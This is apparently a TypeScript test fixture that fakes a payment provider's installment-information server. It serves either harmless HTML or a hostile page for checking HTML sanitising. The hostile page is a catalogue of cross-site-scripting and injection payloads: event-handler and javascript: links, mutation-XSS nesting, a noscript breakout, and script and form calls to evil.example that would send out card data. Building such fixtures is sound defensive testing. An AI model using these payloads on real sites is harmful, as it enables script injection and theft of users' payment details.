import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

type HostMood = 'friendly' | 'hostile' | 'gone' | 'hangs'

export type InformationHost = {
  /** Value for the setting INSTALLMENTS_URL, with a `{locale}` placeholder. */
  url: string
  asked: string[]
  become(mood: HostMood): void
  close(): Promise<void>
}

/**
 * Starts a fake of the payment provider's host for information about installments. `become` makes it answer with harmless HTML
 * (`friendly`), hostile HTML or 404 (`gone`), or not at all (`hangs`). `asked` lists the requested paths.
 */
export async function startInformationHost(): Promise<InformationHost> {
  const state = { mood: 'friendly' as HostMood }
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    answer(response, state.mood)
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return {
    url: `${origin}/{locale}.html`,
    asked,
    become: (mood) => Object.assign(state, { mood }),
    close: () => {
      server.closeAllConnections()
      return new Promise((closed) => server.close(() => closed()))
    },
  }
}

function answer(response: ServerResponse, mood: HostMood): void {
  if (mood === 'hangs') return
  response.setHeader('access-control-allow-origin', '*')
  if (mood === 'gone') return void response.writeHead(404).end('Nothing here')
  response.setHeader('content-type', 'text/html; charset=utf-8')
  response.end(mood === 'hostile' ? hostile : friendly)
}

const friendly = `<!doctype html>
<html lang="en"><head><title>Parts</title><style>h1 { color: rgb(10, 80, 60); font-size: 28px }</style></head>
<body><h1>Pay it in four</h1><p>Every two weeks, without interest. <a href="https://terms.example.org/">Terms apply</a>.</p></body></html>`

/** Hostile HTML for the installment information: each line tries to run a script, send data or load a resource. */
const hostile = `<!doctype html>
<html><head><title>x</title>
<meta http-equiv="refresh" content="0;url=/evil-refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/background.png) }</style>
<script>parent.postMessage({ isClosing: true }, '*'); top.evil = 1; fetch('https://evil.example/script')</script></head>
<body onload="top.evil = 2">
<h1>Harmless heading</h1>
<img src="https://evil.example/pixel.png" onerror="top.evil = 3">
<img src=x onerror=top.evil=4>
<svg><script>top.evil = 5</script><animate onbegin="top.evil = 6" attributeName="x" dur="1s"/><a xlink:href="javascript:top.evil=7"><text y="20">svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.evil = 8"></style></mglyph></table></mtext></math>
<a href="javascript:top.evil = 9">a link that runs</a>
<a href="data:text/html,<script>top.evil=10</script>">a link of data</a>
<form action="https://evil.example/form"><input name="card" autofocus onfocus="top.evil = 11"><button>Pay now</button></form>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.evil = 12</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" autoplay></video><audio src="https://evil.example/audio" autoplay></audio>
<template><img src=x onerror="top.evil = 13"></template><noscript><p title="</noscript><img src=x onerror=top.evil=14>"></noscript>
<p style="position: fixed; inset: 0; z-index: 99999; background: url(https://evil.example/cover.png)">A cover</p>
<select><option onclick="top.evil = 15">x</select><details ontoggle="top.evil = 16" open><summary>more</summary></details>
<p>${'long '.repeat(400)}</p><p>‮desrever</p>
</body></html>`
